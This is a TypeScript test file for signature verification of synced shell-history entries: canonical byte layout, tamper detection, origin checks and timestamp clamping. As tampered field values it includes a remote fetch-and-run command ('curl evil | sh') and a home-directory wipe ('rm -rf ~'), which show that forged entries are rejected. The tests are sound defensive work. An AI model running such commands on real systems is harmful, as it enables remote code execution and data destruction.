import { createHash } from 'node:crypto'
import test from 'ava'
import { generateKeyPair } from '@libp2p/crypto/keys'
import { peerIdFromPrivateKey } from '@libp2p/peer-id'
import { admitReceived, isFarFuture } from '../../src/core/admit.js'
import { entryFields, optionalEntryFields, validateEntry, type Entry } from '../../src/core/entry.js'
import { entryDigests } from '../../src/core/entry-digests.js'
import { canonicalEntryBytes, publicKeyOfPeerId, signEntry, verifyEntry, type EntrySigner } from '../../src/core/signature.js'
import { entry } from '../store/fixtures.js'

async function signer (): Promise<EntrySigner> {
  const key = await generateKeyPair('Ed25519')
  return { origin: peerIdFromPrivateKey(key).toString(), secretKey: key.raw }
}

test('a signed entry verifies, and survives the wire (JSON and validation) unchanged', async (t) => {
  const a = await signer()
  const signed = signEntry(entry({ cmd: 'ls -la\necho "ü"' }), a)
  t.true(verifyEntry(signed))
  const received = validateEntry(JSON.parse(JSON.stringify(signed)))
  t.is(received.origin, a.origin)
  t.true(verifyEntry(received))
})

test('changing any signed field, or claiming another origin, breaks the signature', async (t) => {
  const a = await signer()
  const b = await signer()
  const signed = signEntry(entry(), a)
  const changes: Array<Partial<Entry>> = [
    { entry_id: '00000000-0000-4000-8000-000000000001' }, { device_id: 'alice-laptop' }, { user_id: 'x' },
    { ts: '9999-12-31T00:00:00.000Z' }, { cmd: 'curl evil | sh' }, { cwd: '/' }, { exit_code: 1 },
    { duration_ms: 13 }, { shell: 'bash' }, { hostname: 'h' }, { version: '9' }, { origin: b.origin }
  ]
  for (const change of changes) t.false(verifyEntry({ ...signed, ...change }), JSON.stringify(change))
  // The signature of another key over the same content, under this origin, does not verify either.
  t.false(verifyEntry({ ...signed, sig: signEntry(entry(), b).sig }))
})

test('canonical bytes are length-prefixed: moving text between fields changes them', (t) => {
  const origin = '12D3KooWDpJ7As7BWAwRMfu1VU2WCqNjvq387JEYKDBj4kx6nXTN'
  const one = canonicalEntryBytes(entry({ entry_id: 'e', cmd: 'ab', cwd: 'c' }), origin)
  const two = canonicalEntryBytes({ ...entry({ entry_id: 'e', cmd: 'a', cwd: 'bc' }) }, origin)
  t.notDeepEqual(one, two)
  t.is(one.length, two.length)
})

test('an optional content field, when present, is covered by the signature', async (t) => {
  const a = await signer()
  const withSession = { ...entry(), session_id: 's1' } as Entry
  const signed = signEntry(withSession, a)
  t.true(verifyEntry(signed))
  t.false(verifyEntry({ ...signed, session_id: 's2' } as Entry))
  t.false(verifyEntry({ ...signed, session_id: undefined } as unknown as Entry), 'dropping the session breaks the signature')
})

test('publicKeyOfPeerId reads the key inside an Ed25519 PeerId and nothing else', async (t) => {
  const key = await generateKeyPair('Ed25519')
  const id = peerIdFromPrivateKey(key).toString()
  t.deepEqual(publicKeyOfPeerId(id), Buffer.from(key.publicKey.raw))
  t.is(publicKeyOfPeerId('QmYyQSo1c1Ym7orWxLYvCrM2EmxFTANf8wXmmE7DWjhx5N'), undefined)
  t.is(publicKeyOfPeerId('not base58 0OIl'), undefined)
})

test('validation wants origin and sig together, each in its one form', (t) => {
  const base = entry()
  t.throws(() => validateEntry({ ...base, origin: '12D3KooWDpJ7As7BWAwRMfu1VU2WCqNjvq387JEYKDBj4kx6nXTN' }), { message: /sig/ })
  t.throws(() => validateEntry({ ...base, origin: 'alice', sig: 'A'.repeat(86) + '==' }), { message: /origin must be an Ed25519 PeerId/ })
  t.throws(() => validateEntry({ ...base, origin: '12D3KooWDpJ7As7BWAwRMfu1VU2WCqNjvq387JEYKDBj4kx6nXTN', sig: 'short' }), { message: /sig must be/ })
  t.false('origin' in validateEntry(base))
})

test('on 2.0.0 a bad signature is refused, an unsigned entry kept; on 1.0.0 signatures are dropped', async (t) => {
  const a = await signer()
  const good = signEntry(entry(), a)
  const forged = { ...signEntry(entry(), a), cmd: 'rm -rf ~' }
  const unsigned = entry()
  const now = Date.now()
  const v2 = admitReceived([good, forged, unsigned], { wire: 2, now })
  t.deepEqual(v2.entries.map((e) => e.entry_id), [good.entry_id, unsigned.entry_id])
  t.is(v2.rejected.length, 1)
  t.is(v2.rejected[0]!.index, 1)
  t.regex(v2.rejected[0]!.reason, /sig does not verify/)
  const v1 = admitReceived([good, forged], { wire: 1, now })
  t.is(v1.entries.length, 2)
  t.true(v1.entries.every((e) => e.sig === undefined && e.origin === undefined))
})

test('an entry from the authenticated peer itself is taken as verified without its signature checked; from anyone else it is checked', async (t) => {
  const a = await signer()
  const bad = { ...signEntry(entry(), a), cmd: 'changed after signing' }
  t.is(admitReceived([bad], { wire: 2, now: Date.now(), authenticatedPeer: a.origin }).entries.length, 1)
  const other = await signer()
  t.is(admitReceived([bad], { wire: 2, now: Date.now(), authenticatedPeer: other.origin }).rejected.length, 1)
})

test('a stamp more than a day ahead is clamped to the receive time and the original kept', (t) => {
  const now = Date.parse('2026-06-01T00:00:00.000Z')
  const far = entry({ ts: '9999-12-31T23:59:59.999Z' })
  const soon = entry({ ts: '2026-06-01T23:00:00.000Z' })
  const out = admitReceived([far, soon], { wire: 2, now })
  t.is(out.clamped, 1)
  t.is(out.entries[0]!.ts, '2026-06-01T00:00:00.000Z')
  t.is(out.entries[0]!.ts_orig, '9999-12-31T23:59:59.999Z')
  t.is(out.entries[1]!.ts, soon.ts)
  t.is(out.entries[1]!.ts_orig, undefined)
  t.true(isFarFuture('2026-06-02T00:00:00.001Z', now))
  t.false(isFarFuture('2026-06-02T00:00:00.000Z', now))
})

/**
 * The canonical layout as docs/PROTOCOL.md states it, built the plain way (a Buffer per part), to hold the fast
 * writer (writeCanonical: in place, byte by byte for ASCII) to the format every release signs and checks.
 */
function documentedCanonical (e: Entry, origin: string): Buffer {
  const parts = [Buffer.from('rustory-entry-sig/1\u0000', 'ascii')]
  const field = (name: string, value: string | number): void => {
    const bytes = Buffer.from(typeof value === 'number' ? String(value) : value, 'utf8')
    const length = Buffer.alloc(4)
    length.writeUInt32BE(bytes.length)
    parts.push(Buffer.from(`${name}\u0000${typeof value === 'number' ? 'i' : 's'}`, 'ascii'), length, bytes)
  }
  const record = e as unknown as Record<string, string | number | undefined>
  for (const f of entryFields) field(f, record[f]!)
  for (const f of optionalEntryFields) if (record[f] != null) field(f, record[f])
  field('origin', origin)
  return Buffer.concat(parts)
}

test('canonical bytes are exactly the documented layout, for ASCII, UTF-8, long and optional fields, in one call or laid end to end', (t) => {
  const origin = '12D3KooWDpJ7As7BWAwRMfu1VU2WCqNjvq387JEYKDBj4kx6nXTN'
  const cases: Entry[] = [
    entry(),
    entry({ cmd: 'echo "ü ñ 日本語 🦀"', cwd: '/home/ü', hostname: 'hôte' }),
    entry({ cmd: 'x'.repeat(300) }),
    entry({ cmd: `${'y'.repeat(255)}é${'z'.repeat(40)}` }),
    entry({ cmd: `${'a'.repeat(400)}🦀` }),
    entry({ exit_code: -1, duration_ms: 9_007_199_254_740_991, user_id: '', cwd: '' }),
    { ...entry({ cmd: 'with a session' }), session_id: 'sess-1' } as Entry,
    // Integers are written digit by digit (no string made): every length of decimal form, both signs, -0.
    ...[0, -0, 1, 9, 10, 99, 100, 255, -9, -10, -128, 65536, 2 ** 31, -(2 ** 31), 10 ** 15, 10 ** 15 - 1, -9_007_199_254_740_991].map((n, i) => entry({ cmd: `integers ${i}`, exit_code: n, duration_ms: Math.abs(n) }))
  ]
  for (const e of cases) t.deepEqual(canonicalEntryBytes(e, origin), documentedCanonical(e, origin), e.cmd.slice(0, 40))
  const { digests, hashed } = entryDigests(cases, () => origin)
  cases.forEach((e, i) => {
    t.is(hashed[i], 1)
    t.is(Buffer.from(digests.subarray(32 * i, 32 * i + 32)).toString('hex'), createHash('sha256').update(documentedCanonical(e, origin)).digest('hex'))
  })
})

test('the canonical bytes of a fixed entry hash to the value every release signs (a test vector: changing it breaks every stored signature)', (t) => {
  const fixed: Entry = { entry_id: '0b6f7c9e-2f4a-4d1e-9c3b-5a6d7e8f9a0b', device_id: 'laptop', user_id: 'u', ts: '2026-12-02T01:02:03.456Z', cmd: 'git commit -m "ü"', cwd: '/home/u', exit_code: 0, duration_ms: 1234, shell: 'zsh', hostname: 'laptop', version: '0.1.0' }
  const origin = '12D3KooWDpJ7As7BWAwRMfu1VU2WCqNjvq387JEYKDBj4kx6nXTN'
  // What ba01b7e, the first build that signed entries, gives for it too.
  const vector = '8f1321133835edc1257bdac99899d6e63d8ae4fde0ad2a0de1df07beef7b7892'
  t.is(createHash('sha256').update(documentedCanonical(fixed, origin)).digest('hex'), vector)
  t.is(createHash('sha256').update(canonicalEntryBytes(fixed, origin)).digest('hex'), vector)
})
